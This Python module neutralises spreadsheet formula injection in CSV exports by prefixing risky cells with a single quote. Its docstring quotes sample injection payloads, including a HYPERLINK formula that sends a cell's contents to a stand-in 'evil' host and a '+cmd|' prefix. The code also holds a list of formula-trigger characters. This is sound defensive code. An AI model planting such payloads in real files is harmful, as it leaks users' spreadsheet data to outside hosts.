"""CSV for people who open it in a spreadsheet: no cell from outside data can become a formula.

A product name like `=HYPERLINK("http://evil/?"&A1,"Click")` in a CSV runs as a formula in Excel, LibreOffice or
Google Sheets (and `@SUM(...)`, `+cmd|...`, `-1+...` too; a leading tab or carriage return hides the sign from a
quick look). OWASP's advice: such a cell starts with a single quote, which spreadsheets read as "this is text".
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "|", "%")


def inert_cell(value: Any) -> str:
    """`value` as a cell a spreadsheet shows as text, never evaluates."""
    text = "" if value is None else str(value)
    if text.lstrip(" \n").startswith(FORMULA_STARTS) or text.startswith(FORMULA_STARTS):
        return "'" + text
    return text


def csv_text(rows: Iterable[Iterable[Any]]) -> str:
    """The rows as CSV text, every cell made inert."""
    out = io.StringIO()
    csv.writer(out).writerows([inert_cell(cell) for cell in row] for row in rows)
    return out.getvalue()
